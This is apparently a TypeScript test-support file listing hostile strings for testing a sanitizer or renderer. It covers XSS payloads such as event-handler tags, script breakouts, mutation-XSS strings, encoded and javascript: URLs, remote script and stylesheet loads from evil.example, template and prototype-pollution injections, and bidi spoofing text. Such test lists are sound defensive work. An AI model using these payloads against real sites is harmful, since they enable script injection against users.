// Test support: texts that would run code, add elements or deceive where a text is taken for something else.

/** What a payload would call. Whoever uses the list counts the calls. */
export const call = 'hostile(1)'

const carriers = [
  'img src=x',
  'svg',
  'video src=x',
  'audio src=x',
  'details open',
  'input autofocus',
  'body',
  'iframe src=x',
  'object data=x',
  'marquee',
  'a href=x',
  'style',
]
const handlers = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onclick', 'onanimationstart']
const tags = carriers.flatMap((carrier) =>
  handlers.map((handler) => `<${carrier} ${handler}=${call}>`),
)

const scripts = [
  `<script>${call}</script>`,
  `<SCRIPT>${call}</SCRIPT>`,
  `<script\n>${call}</script\n>`,
  `<script/x>${call}</script>`,
  `<script type=module>${call}</script>`,
  `<script src=data:,${call}></script>`,
  `<script src=//evil.example/x.js></script>`,
  `</script><script>${call}</script>`,
  `<<script>${call}//<</script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<script>${call}<!--`,
  `</title><script>${call}</script>`,
  `</textarea><script>${call}</script>`,
  `--><script>${call}</script><!--`,
  `]]><script>${call}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
]

const breakouts = [
  `"><img src=x onerror=${call}>`,
  `'><img src=x onerror=${call}>`,
  `" onmouseover=${call} x="`,
  `' onfocus=${call} autofocus='`,
  `" autofocus onfocus=${call} "`,
  `x onerror=${call}`,
  '` onerror=' + call,
  `</bdi></p></dialog><img src=x onerror=${call}>`,
  `</style><img src=x onerror=${call}>`,
  `"/><svg onload=${call}>`,
  `" style="animation-name:x" onanimationstart="${call}`,
  `" popovertarget=x onbeforetoggle=${call} `,
]

const foreignContent = [
  `<svg><script>${call}</script></svg>`,
  `<svg><a xlink:href="javascript:${call}"><text y=9>x</text></a></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${call}>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x">`,
  `<svg><foreignObject><iframe srcdoc="<script>${call}</script>"></iframe></foreignObject>`,
  `<svg><style><img src=x onerror=${call}></style>`,
  `<svg><title><img src=x onerror=${call}></title>`,
  `<svg><desc><template><img src=x onerror=${call}></template></desc>`,
  `<math href="javascript:${call}">x</math>`,
  `<math><mi xlink:href="javascript:${call}">x</mi></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${call}></annotation-xml></math>`,
]

/** Harmless as they are read once, and not any more when they are written and read again. */
const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${call}&gt;">`,
  `<svg></p><style><a id="</style><img src=x onerror=${call}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}>`,
  `<noscript><style></noscript><img src=x onerror=${call}>`,
  `<listing>&lt;img src=x onerror=${call}&gt;</listing>`,
  `<template><img src=x onerror=${call}></template>`,
  `<template shadowrootmode=open><img src=x onerror=${call}></template>`,
  `<select><style></select><img src=x onerror=${call}>`,
  `<p id="<img src=x onerror=${call}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${call}>">`,
  `<plaintext><img src=x onerror=${call}>`,
  `<!--><img src=x onerror=${call}>-->`,
  `<!--!><img src=x onerror=${call}>`,
  `<![CDATA[<img src=x onerror=${call}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${call}>`,
]

const encodings = [
  `&lt;img src=x onerror=${call}&gt;`,
  `&#60;img src=x onerror=${call}&#62;`,
  `&#x3c;img src=x onerror=${call}&#x3e;`,
  `&amp;lt;img src=x onerror=${call}&amp;gt;`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `%3Cimg%20src%3Dx%20onerror%3D${call}%3E`,
  `%253Cimg src=x onerror=${call}%253E`,
  `\\u003cimg src=x onerror=${call}\\u003e`,
  `\\x3cimg src=x onerror=${call}\\x3e`,
  `+ADw-img src=x onerror=${call}+AD4-`,
  `＜img src=x onerror=${call}＞`,
  `\u00BCimg src=x onerror=${call}\u00BE`,
  `<img src=x onerror=&#104;ostile(1)>`,
  `<img src=x onerror=\\u0068ostile(1)>`,
  `&nbsp;&copy;&quot;&apos;&NewLine;&Tab;&colon;&lpar;`,
  `=HYPERLINK("javascript:${call}","x")`,
]

const addresses = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  ` javascript:${call}`,
  `\u0001javascript:${call}`,
  `java\tscript:${call}`,
  `java\nscript:${call}`,
  `java\r\nscript:${call}`,
  `javascript\t:${call}`,
  `javascript&colon;${call}`,
  `&#106;avascript:${call}`,
  `javascript%3A${call}`,
  `javascript://aws.amazon.com/%0A${call}`,
  `data:text/html,<script>${call}</script>`,
  `data:text/html;base64,PHNjcmlwdD5ob3N0aWxlKDEpPC9zY3JpcHQ+`,
  `DATA:text/html,<script>${call}</script>`,
  `vbscript:${call}`,
  `blob:https://aws.amazon.com/1`,
  `filesystem:https://aws.amazon.com/x`,
  `view-source:https://aws.amazon.com/`,
  `jar:https://aws.amazon.com/!/x`,
  `//evil.example/x`,
  `\\\\evil.example\\x`,
  `https://aws.amazon.com@evil.example/`,
  `https://aws.amazon.com.evil.example/`,
]

const styles = [
  `<style>@import '//evil.example/x.css'</style>`,
  `<style>*{background:url(//evil.example/x)}</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<p style="position:fixed;inset:0;background:red">`,
  `;background:url(javascript:${call})`,
  `expression(${call})`,
  `} * { display: none } {`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<base href=//evil.example/>`,
  `<meta http-equiv=Content-Security-Policy content="script-src *">`,
]

const directions = [
  `a\u202Egnp.exe\u202C`,
  `\u202D\u202E\u2066\u2067\u2068x`,
  `\u2069\u2069x</bdi>`,
  `\u200Fעברית <b>x</b>`,
  `z\u0300\u0301\u0302\u0303\u0304\u0305\u0306 zalgo`,
  `a\u200Bb\u200Cc\u200Dd\uFEFFe`,
  `аdmin (cyrillic)`,
  `\u{E0041}\u{E0042} tags`,
  `👩‍👩‍👧‍👦<img src=x onerror=${call}>`,
]

const controls = [
  `<\u0000img src=x onerror=${call}>`,
  `<img\u0000 src=x onerror=${call}>`,
  `<scr\u0000ipt>${call}</script>`,
  `x\u0000<b>x</b>`,
  `<img\u000Bsrc=x\u000Conerror=${call}>`,
  `<img/src=x/onerror=${call}>`,
  `<img\u2028src=x onerror=${call}>`,
  `a\u0007\u0008\u001B[31mred\u007F`,
  `line\r\nSet-Cookie: x=1`,
  `\uD800<img src=x onerror=${call}>`,
  `\uFFFE\uFFFF<b>x</b>`,
]

const templates = [
  '${' + call + '}',
  '`${' + call + '}`',
  `{{${call}}}`,
  `{{constructor.constructor('${call}')()}}`,
  `{digits} {date} {product} {name}`,
  `{constructor} {__proto__} {toString}`,
  `$& $1 $\` $' $$`,
  `<%= ${call} %>`,
  `#{${call}}`,
  `@click=${call}`,
  `<x @click=${call}>`,
  `<x .innerHTML="<img src=x onerror=${call}>">`,
  `<x ?hidden=1>`,
  `<!--?lit$000000000$-->`,
  `<!--?lit$-->`,
  `?lit$000000000$`,
  `<?>`,
  `<!--lit-part--><img src=x onerror=${call}><!--/lit-part-->`,
  `<!--lit-node 0-->`,
  `lit$000000000$ x$lit$`,
  `[object Object]`,
  `';${call};//`,
  `";${call};//`,
  `\\";${call};//`,
  `*/${call}/*`,
  `__proto__`,
  `constructor`,
  `hasOwnProperty`,
  `{"__proto__":{"state":"active"}}`,
]

export const hostileTexts: readonly string[] = [
  ...tags,
  ...scripts,
  ...breakouts,
  ...foreignContent,
  ...mutations,
  ...encodings,
  ...addresses,
  ...styles,
  ...directions,
  ...controls,
  ...templates,
]
